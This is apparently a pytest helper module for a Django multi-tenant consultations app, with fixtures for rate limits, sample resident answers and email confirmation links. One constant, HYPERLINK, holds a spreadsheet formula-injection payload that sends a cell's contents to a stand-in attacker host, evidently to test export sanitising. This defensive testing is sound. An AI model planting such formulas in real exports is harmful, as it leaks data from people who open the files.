"""Helpers for the consultations tests: a consultation, the answers residents type."""

from __future__ import annotations

import datetime
import re

import pytest
import time_machine
from django.core import mail
from django.utils import timezone
from django_tenants.utils import schema_context

from consultations.factories import ConsultationPageFactory
from consultations.form_builder import (
    ANSWERS_PER_EMAIL,
    ANSWERS_PER_IP,
    ANSWERS_PER_IP_HOURLY,
    CONFIRMATION_EMAIL_FIELD,
)
from consultations.models import ConsultationAnswer, ConsultationPage
from core.abuse import STARTED_FIELD, RateLimit, started_stamp

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'


@pytest.fixture(autouse=True)
def _fresh_rate_limits():
    """Each test starts with no answer counted against the limits (portals live a module)."""
    for limit in (ANSWERS_PER_IP, ANSWERS_PER_EMAIL, ANSWERS_PER_IP_HOURLY):
        RateLimit.forget_scope(limit.scope)
    yield


@pytest.fixture
def outbox() -> list[mail.EmailMessage]:
    mail.outbox = []
    return mail.outbox


def consultation_at(portal, **fields: object) -> ConsultationPage:
    """A published consultation of ``portal`` (the factory's five questions)."""
    with schema_context(portal.schema_name):
        return ConsultationPageFactory(**fields)


def stamp(page: ConsultationPage, portal) -> str:
    """The time stamp of ``page``'s form opened a minute ago at ``portal``."""
    with time_machine.travel(timezone.now() - datetime.timedelta(minutes=1), tick=False):
        return started_stamp(f"consultation-{page.pk}", portal.schema_name)


def answers_of(page: ConsultationPage, portal, **overrides: object) -> dict:
    """What a resident types in the factory's consultation, a minute after opening it."""
    data = {
        "votre_quartier": "Nord",
        "vos_envies": ["Bancs", "Arbres"],
        "note": "4",
        "votre_idee": "Un banc près de l'école.",
        "votre_e_mail_facultatif": "",
        "site_web": "",
        STARTED_FIELD: stamp(page, portal),
    }
    if page.by_email:
        data[CONFIRMATION_EMAIL_FIELD] = "samia@example.org"
    data.update(overrides)
    return {key: value for key, value in data.items() if value is not None}


def path_of(page: ConsultationPage, portal, route: str = "form", *args: object) -> str:
    with schema_context(portal.schema_name):
        _site, _root, page_path = page.get_url_parts()
        return page_path + page.reverse_subpage(route, args=args)


def answers_to(page: ConsultationPage, portal) -> list[ConsultationAnswer]:
    with schema_context(portal.schema_name):
        return list(ConsultationAnswer.objects.filter(page_id=page.pk).order_by("pk"))


def link_in(message: mail.EmailMessage) -> str:
    return re.findall(r"https?://\S+/confirmer/\S+/", message.body)[0]


def path_in(url: str) -> str:
    return re.sub(r"^https?://[^/]+", "", url)


HOSTILE_SLUG = "consultation-hostile"


def hostile_answer_base(portal) -> dict:
    """Valid answers to the hostile-input table's anonymous consultation (its slug above)."""
    with schema_context(portal.schema_name):
        page = ConsultationPage.objects.get(slug=HOSTILE_SLUG)
    return answers_of(page, portal)
